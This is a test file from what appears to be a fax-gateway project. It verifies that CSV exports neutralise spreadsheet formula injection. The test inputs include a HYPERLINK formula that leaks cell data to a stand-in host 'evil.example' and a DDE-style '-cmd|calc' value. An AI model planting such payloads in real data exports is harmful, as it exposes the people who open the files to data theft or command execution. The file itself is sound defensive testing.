// CSV cells that a spreadsheet would run as formulas are neutralised with a leading ', in
// the cell helper and in both CSV exports (audit trail, send/receive log).
import { Writable } from 'node:stream';
import { users } from '@faxgate/store';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { appendAuditEvent } from './append.js';
import { csvCell, csvLine } from './csv.js';
import { exportAuditEvents } from './export.js';
import { type AuditTestDb, auditTestDb } from './test-support/db.js';
import { exportXferLog, recordXfer } from './xferlog.js';

describe('csvCell', () => {
  it.each([
    ['=HYPERLINK("http://evil.example","click")', `"'=HYPERLINK(""http://evil.example"",""click"")"`],
    ['+49301234567', "'+49301234567"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
  ])('neutralises %j', (value, want) => {
    expect(csvCell(value)).toBe(want);
  });

  it('quotes per RFC 4180 and leaves harmless text, numbers and dates alone', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell(' padded ')).toBe('" padded "');
    expect(csvCell(-5)).toBe('-5'); // a number stays a number
    expect(csvCell(12n)).toBe('12');
    expect(csvCell(new Date('2026-03-05T10:00:00Z'))).toBe('2026-03-05T10:00:00.000Z');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell({ a: 1 })).toBe('"{""a"":1}"');
    expect(csvLine(['=1', 2, 'x'])).toBe("'=1,2,x\r\n");
  });
});

class Sink extends Writable {
  text = '';
  override _write(chunk: Buffer, _enc: string, cb: () => void) {
    this.text += chunk.toString();
    cb();
  }
}

describe('CSV exports', () => {
  let t: AuditTestDb;
  let auditor: number;
  const TAG = '=HYPERLINK("http://evil.example/?leak="&A1,"Invoice")';
  beforeAll(async () => {
    t = await auditTestDb();
    auditor = (await users.add(t.knex, { name: 'aud', roles: ['auditor'] })).id;
    await t.knex.transaction(async (trx) => {
      await recordXfer(trx, {
        type: 'SEND',
        time: new Date('2026-03-05T10:00:00Z'),
        jobtag: TAG,
        sender: '@alice',
        dest: '+49301234567',
        npages: 1,
      });
      await appendAuditEvent(trx, { type: 'fax.read', actor: 'alice', subject: '-cmd|calc', details: {} });
    });
  });
  afterAll(async () => {
    await t?.close();
  });

  it('the send/receive log CSV carries the job tag as text, not as a formula', async () => {
    const out = new Sink();
    await exportXferLog(t.knex, { format: 'csv' }, out, { actor: auditor, actorName: 'aud' });
    const row = out.text.split('\r\n')[1];
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Invoice"")"`);
    expect(row).toContain("'@alice");
    expect(row).toContain("'+49301234567");
    expect(row).not.toMatch(/(^|,)[=+@-]/); // no cell starts like a formula
  });

  it('the audit trail CSV neutralises a subject that starts like a formula', async () => {
    const out = new Sink();
    await exportAuditEvents(t.knex, { format: 'csv' }, out, { actor: auditor, actorName: 'aud' });
    const line = out.text.split('\r\n').find((l) => l.includes('cmd|calc'));
    expect(line).toContain(",'-cmd|calc,");
  });
});
